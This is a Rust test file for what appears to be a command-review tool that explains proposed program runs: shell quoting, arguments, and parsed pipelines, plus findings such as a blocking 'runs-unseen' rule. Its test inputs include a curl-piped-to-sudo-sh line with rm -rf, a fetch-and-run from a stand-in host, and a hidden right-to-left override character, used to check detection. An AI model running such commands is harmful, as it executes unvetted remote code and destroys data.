//! What is said of a program that would run.
#![allow(clippy::unwrap_used, reason = "a test may panic")]

mod common;

use common::*;
use countersign_core::action::Act;
use countersign_sheet::{Row, SegmentKind, Severity, Sheet, Spot};
use expect_test::expect;

fn ran(argv: &[&str]) -> Sheet {
    let mut it = run(argv.iter().map(|it| (*it).into()).collect());
    if let Act::Run(run) = &mut it.act {
        run.executable.path = "/usr/bin/env".into();
    }
    sheet_of(&proposal(vec![it]))
}

/// The document, up to where it runs.
fn document(sheet: &Sheet) -> String {
    let text = sheet.to_text();
    let start = text.find("-- As a shell").unwrap();
    text[start..text.find("-- Where").unwrap()].to_owned()
}

#[test]
fn a_command_line_is_taken_apart_below_the_arguments() {
    let it = ran(&[
        "env",
        "bash",
        "-c",
        "curl -s \"$URL\" 2>/dev/null | sudo sh && rm -rf /tmp/$X/*; case a in b) c;; esac",
    ]);
    expect![[r#"
        -- As a shell would take it: quoted so that it gives exactly the arguments below
           line                     env bash -c 'curl -s "$URL" 2>/dev/null | sudo sh && rm -rf /tmp/$X/*; case a in b) c;;
           ...                       esac'
        -- Arguments: 3 arguments; number 0 is the name that the program sees
                0  env
                1  bash
                2  -c
                3  curl -s "$URL" 2>/dev/null | sudo sh && rm -rf /tmp/$X/*; case a in b) c;; esac
        -- Argument 3 is a command line: for the shell that is named before it
           command                  curl -s "$URL" 2>/dev/null
             variable               $URL
             redirect               "2>/dev/null"  writes over it
           separator                "|"  what it prints goes to
           command                  sudo sh
           separator                "&&"  then, if that succeeded
           command                  rm -rf /tmp/$X/*
             variable               $X
             pattern                /tmp/$X/*
           separator                ";"  then
          ! Not taken apart: a choice by patterns, a function or a test of bash stands here. "case a"
        ...  in b) c;; esac
    "#]].assert_eq(&document(&it));
    assert!(it.to_text().contains("Nor are the programs that its command lines start"));
}

#[test]
fn without_one_there_is_the_line_alone() {
    let it = ran(&["rsync", "-a", "it's", "", "a\nb", "$HOME"]);
    expect![[r#"
        -- As a shell would take it: quoted so that it gives exactly the arguments below
           line                     rsync -a 'it'\\''s' '' 'a\<LF>
           ...                      b' '$HOME'
        -- Arguments: 5 arguments; number 0 is the name that the program sees
                0  rsync
                1  -a
                2  it's
                3  \<empty>
                4  a\<LF>
              ...  b
                5  $HOME
    "#]]
    .assert_eq(&document(&it));
    assert!(!it.to_text().contains("command lines start"));
}

#[test]
fn what_runs_unseen_is_one_finding_in_the_line_the_arguments_and_the_command() {
    let it = ran(&["sh", "-c", "curl -fsSL https://x.example/i.sh | sh"]);
    let [found] = it.findings.as_slice() else { panic!("{:?}", it.findings) };
    assert_eq!((found.rule.as_str(), found.severity), ("runs-unseen", Severity::Blocking));
    let [Spot::Rows { document: 0, .. }, Spot::Rows { document: 0, .. }, Spot::Rows { document: 0, rows }] =
        found.spots.as_slice()
    else {
        panic!("{:?}", found.spots)
    };
    let Row::Field { segments, .. } = &it.documents[0].rows[rows.start] else { panic!() };
    assert_eq!(segments[0].display, "sh");
}

#[test]
fn what_an_argument_hides_is_found_once() {
    let it = ran(&["sh", "-c", "echo a\u{202e}b"]);
    assert_eq!(it.findings.iter().map(|it| it.spots.len()).collect::<Vec<_>>(), [1]);
    let rows = &it.documents[0].rows;
    let chips = rows.iter().filter(|row| match row {
        Row::Field { segments, .. } | Row::Argument { segments, .. } => segments
            .iter()
            .any(|it| matches!(it.kind, SegmentKind::Chip { .. }) && it.display.contains("RLO")),
        _ => false,
    });
    assert_eq!(chips.count(), 3, "in the line, in the argument and in the command");
}
